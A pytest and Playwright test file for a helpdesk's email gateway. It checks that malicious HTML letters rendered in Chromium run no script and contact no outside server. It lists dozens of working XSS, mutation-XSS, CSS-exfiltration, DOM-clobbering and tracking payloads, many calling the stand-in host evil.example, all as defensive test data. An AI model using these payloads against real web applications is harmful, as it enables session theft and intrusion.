"""Letters that attack whoever opens them come in through the real door, and nothing happens.

Each letter of the collection is received and understood as every other, then opened in Chromium on
the agent's page of the ticket, with the pages inside of its frames, and in the portal. No script
may run, nothing may be asked of any other server, nothing may open, and the words beside the
attacks must be readable.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from django.urls import reverse
from playwright.sync_api import BrowserContext, Page

from departments.models import User
from mailgateway import inbound
from mailgateway.models import Mailbox
from tests.browser.conftest import WIDE, session_cookie
from tests.letters import letter
from tickets.models import Message, Ticket

pytestmark = [pytest.mark.needs_chromium, pytest.mark.django_db(transaction=True)]

EVIL = "https://evil.example"
RUN = "top.attacked=self.attacked=1;alert(1)"
IMG = f"<img src=x onerror={RUN}>"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>//<!--\n{RUN}//--></script>",
    IMG,
    f'<img src="x" onerror="{RUN}"',
    f"<img src=`x` onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<img/src='x'/onerror={RUN}>",
    f"<img src=x on\0error={RUN}>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>x</div>",
    f"<p tabindex=1 autofocus onfocus={RUN}>x</p>",
    f"<xss contenteditable autofocus onfocus={RUN}>x</xss>",
]
MUTATIONS = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img title='</style>{IMG}'></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>{IMG}'/></svg>",
    f'<svg></p><style><a id="</style>{IMG}">',
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>{IMG}--></style></mglyph></table></mtext></math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<noscript><p title='</noscript>{IMG}'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select>{IMG}'></a>",
    f"<template shadowrootmode=open>{IMG}</template>",
    f"<title><a title='</title>{IMG}'></a>",
    f"<textarea><a title='</textarea>{IMG}'></a>",
    f"<xmp><p title='</xmp>{IMG}'>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>]]>{RUN}</script>",
    f"<plaintext>{IMG}",
    f"<table><td><table><td>{IMG}</table><caption>{IMG}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
ADDRESSES = [
    f"<a href='javascript:{RUN}' autofocus>x</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>x</a><a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a><a href='vbscript:x'>x</a>",
    f"<a href='{EVIL}' ping='{EVIL}/ping' target=_self download>x</a>",
    f"<img src={EVIL}/pixel.gif width=1 height=1>",
    f"<img srcset='{EVIL}/a 1x, {EVIL}/b 2x' sizes=1px lowsrc={EVIL}/c dynsrc={EVIL}/d>",
    f"<picture><source srcset={EVIL}/a><img src=//evil.example/b></picture>",
    f"<table background={EVIL}/a><tr background={EVIL}/b><td background={EVIL}/c>x</table>",
    f"<video poster={EVIL}/a src={EVIL}/b><track src={EVIL}/c></video><audio src={EVIL}/d>",
    f"<input type=image src={EVIL}/a><button formaction={EVIL}>x</button>",
    f"<form action={EVIL} method=post><input name=q></form><script>document.forms[0].submit()"
    "</script>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe><frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}/a></object><embed src={EVIL}/b><applet code={EVIL}/c>",
    f"<portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    f"<base href={EVIL}/><a href=x>x</a><img src=relative.png>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer'
    " content=unsafe-url>",
    f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/y>"
    f"<link rel=dns-prefetch href={EVIL}><link rel=preload as=image href={EVIL}/z>",
    "<img src=/account/logout/><img src=/agent/?x=1><img src='/files/../account/logout/'>",
]
STYLES = [
    f"<style>@import url({EVIL}/x.css);body{{background:url({EVIL}/y)}}</style>",
    f"<p style=\"background:url('{EVIL}/a')\">x</p><p style='background-image:url({EVIL}/b)'>x</p>",
    f"<p style='list-style:url({EVIL}/a);cursor:url({EVIL}/b),auto;border-image:url({EVIL}/c)'>x",
    f"<p style='content:url({EVIL}/a);mask:url({EVIL}/b);filter:url({EVIL}/c)'>x</p>",
    f"<p style='background:\\75 rl({EVIL}/a);color:u/**/rl({EVIL}/b)'>x</p>",
    f"<p style='width:expression({RUN});behavior:url(#x);-moz-binding:url({EVIL}/x)'>x</p>",
    f"<p style='font-family:\"x;src:url({EVIL}/f)\";color:var(--x,url({EVIL}/a))'>x</p>",
    f"<a href={EVIL} style='position:fixed;inset:0;z-index:9999;display:block'>everywhere</a>",
    "<div style='position:absolute;top:-9999px;transform:scale(99)'>x</div>",
    "<style>*{display:none!important}</style>",
    f"<p style='color:image-set(\"{EVIL}/a\" 1x)'>x</p>",
]
CLOBBERS = [
    "<form id=document name=cookie><input name=attributes><img name=body id=getElementById></form>",
    "<a id=defaultView name=top href=x>x</a><a id=defaultView href=y>y</a><div id=main>x</div>",
    "<div id=thread class='composer message' data-message=1 hx-get=/agent/ hx-trigger=load>x</div>",
    f"<div hx-get='{EVIL}' hx-trigger='load' data-hx-get='{EVIL}' hx-on:load='{RUN}'>x</div>",
    "<label for=id_body>x</label><button form=split formaction=/x>x</button><input name=csrf>",
    "<div contenteditable=true accesskey=s draggable=true popover=auto id=pop>x</div>",
    "\u202egnp.exe\u202d \U000e0041\U000e0042 \ufeff\u200b <b>\u2028\u2029</b>",
]
COSTLY = [
    "<div>" * 5_000 + IMG,
    "<a href='" + "x" * 9_000 + f"'>{IMG}",
    f"<b>{IMG}" * 300,
    "<!--" * 2_000 + IMG,
    "<table>" + f"<tr><td>{IMG}<td>y" * 400,
]
ATTACKS = [*SCRIPTS, *MUTATIONS, *ADDRESSES, *STYLES, *CLOBBERS, *COSTLY]
TEXTS = [
    f"{IMG}\n<script>{RUN}</script>\njavascript:{RUN}",
    f'{EVIL}/"onmouseover="{RUN} {EVIL}/?<script>{RUN}</script> www.evil.example/\'onclick={RUN}',
    f"> {IMG}\n> <svg onload={RUN}>\n\n-- \n{IMG}",
]
FACTS = """() => ({
  text: document.body.innerText,
  laidOut: [...document.querySelectorAll('body *')]
    .filter(one => getComputedStyle(one).position != 'static').length,
  links: [...document.querySelectorAll('a[href]')]
    .map(one => ({href: one.getAttribute('href'), target: one.target, rel: one.rel})),
})"""
FILE = (f"{IMG}.svg", "image/svg+xml", f"<svg onload={RUN}/>".encode())
A_TICKET = 13  # letters in one, so that no page is too long


@dataclass
class Watch:
    """What happened in a browser that should not have."""

    context: BrowserContext
    base: str
    seen: list[str] = field(default_factory=list)

    def page(self) -> Page:
        page = self.context.new_page()
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.seen.append(f"error: {error}"))
        page.on("download", lambda file: self.seen.append(f"download: {file.url}"))
        page.on("popup", lambda popup: self.seen.append(f"popup: {popup.url}"))
        page.on("console", self._console)
        return page

    def _dialog(self, dialog) -> None:
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, line) -> None:
        # A picture that the letter forgot to bring along keeps its `cid:`, which no policy names:
        # the browser says so and asks nobody.
        if line.type == "error" and "'cid:" not in line.text:
            self.seen.append(f"console: {line.text}")

    def asked(self, route) -> None:
        """A request that is really sent: what the policy forbids never comes so far."""
        self.seen.append(f"request: {route.request.url}")
        route.abort()

    def look(self, page: Page) -> None:
        """Ask every frame whether somebody left a mark, or lies above the rest."""
        for frame in page.frames:
            if frame.evaluate("window.attacked"):
                self.seen.append(f"script ran in {frame.url}")
        if not page.url.startswith(self.base):
            self.seen.append(f"navigation: {page.url}")


@pytest.fixture
def watch(chromium, live_server) -> Iterator:
    """`watch(ada)`: a browser in which Ada has signed in, and that tells all that happens."""
    contexts = []

    def begin(user: User) -> Watch:
        context = chromium.new_context(viewport=WIDE, locale="en", accept_downloads=False)
        context.add_cookies([session_cookie(user, live_server.url)])
        contexts.append(context)
        made = Watch(context, live_server.url)
        context.route(lambda url: not url.startswith((made.base, "data:")), made.asked)
        return made

    yield begin
    for context in contexts:
        context.close()


@pytest.fixture
def mailbox(billing) -> Mailbox:
    return Mailbox.objects.create(
        name="Billing", address="billing@desk.example", department=billing
    )


def arrive(mailbox: Mailbox, raw: bytes) -> Ticket:
    row = inbound.receive(mailbox, raw)
    inbound.handle(row.pk)
    row.refresh_from_db()
    assert row.ticket is not None, row.error
    return row.ticket


def letters_arrive(mailbox: Mailbox) -> list[Ticket]:
    """Every attack as a letter of its own, some to a ticket; the sender's name attacks too."""
    tickets = []
    for first in range(0, len(ATTACKS), A_TICKET):
        sender = f'"{IMG}" <mallory{first}@customer.example>'
        opening = f"opening-{first}@customer.example"
        for number, attack in enumerate(ATTACKS[first : first + A_TICKET], first):
            raw = letter(
                f"Readable{number}",
                sender=sender,
                subject=f"Re: {IMG}",
                letter_id=opening if number == first else None,
                In_Reply_To="" if number == first else f"<{opening}>",
                html=f"<p>Before{number}.</p>{attack}",
                files=[FILE] if number == first else [],
            )
            ticket = arrive(mailbox, raw)
        tickets.append(ticket)
    sender = "Mallory <mallory@customer.example>"
    return tickets + [arrive(mailbox, letter(text, sender=sender)) for text in TEXTS]


def test_nothing_active_of_a_letter_survives_in_a_browser(watch, mailbox, ada):
    assert len(ATTACKS) >= 60
    tickets = letters_arrive(mailbox)
    assert Message.objects.count() == len(ATTACKS) + len(TEXTS)

    agent = watch(ada)
    page = agent.page()
    text = ""
    for ticket in tickets:
        page.goto(f"{agent.base}{reverse('agent:ticket', args=[ticket.number])}")
        page.evaluate("document.querySelectorAll('iframe').forEach(one => one.loading = 'eager')")
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        page.wait_for_load_state("networkidle")
        agent.look(page)
        text += page.inner_text("main")
        for frame in page.frames[1:]:
            shown = frame.evaluate(FACTS)
            text += shown["text"]
            assert shown["laidOut"] == 0, frame.content()
            for link in shown["links"]:
                assert link["href"].startswith(("http:", "https:", "mailto:")), link
                assert (link["target"], "noopener" in link["rel"]) == ("_blank", True)
    assert agent.seen == []
    unread = [number for number in range(len(ATTACKS)) if f"Before{number}." not in text]
    assert [ATTACKS[number] for number in unread] == []

    # There letters are shown as their text, so that one of the others stands for all.
    for ticket in tickets[-1 - len(TEXTS) :]:
        customer = watch(ticket.customer)
        page = customer.page()
        page.goto(f"{customer.base}{reverse('portal:ticket', args=[ticket.number])}")
        customer.look(page)
        assert page.locator(".letter").first.is_visible()
        assert customer.seen == []


@pytest.mark.parametrize(
    ("attack", "noticed"),
    [
        (f"<script>{RUN}</script>", "script ran"),
        (IMG, "dialog: 1"),
        (f"<img src={EVIL}/pixel.gif>", "request: https://evil.example/pixel.gif"),
        (f"<link rel=stylesheet href={EVIL}/x.css>", "request: https://evil.example/x.css"),
        (f"<p style='background:url({EVIL}/a)'>x</p>", "request: https://evil.example/a"),
        (f"<iframe src={EVIL}></iframe>", "request: https://evil.example/"),
        ("<script>throw Error('x')</script>", "error: x"),
        (f"<script>open('{EVIL}')</script>", "popup: "),
    ],
)
def test_the_watch_would_notice(watch, ada, attack, noticed):
    agent = watch(ada)
    page = agent.page()
    page.set_content(f"<p>x</p>{attack}")
    page.wait_for_timeout(300)
    agent.look(page)
    assert any(line.startswith(noticed) for line in agent.seen), agent.seen


@pytest.mark.parametrize("attack", [f"<script>{RUN}</script>", IMG, f"<img src={EVIL}/pixel.gif>"])
def test_behind_the_cleaner_the_policy_of_the_page_stands_as_a_second_wall(
    watch, mailbox, ada, attack
):
    ticket = arrive(mailbox, letter("Readable", html="<b>Readable</b>"))
    ticket.messages.update(html=f"<b>Readable</b>{attack}")
    agent = watch(ada)
    page = agent.page()
    page.goto(f"{agent.base}{reverse('agent:ticket', args=[ticket.number])}")
    page.wait_for_load_state("networkidle")
    agent.look(page)
    assert agent.seen
    assert all(line.startswith("console: ") for line in agent.seen), agent.seen
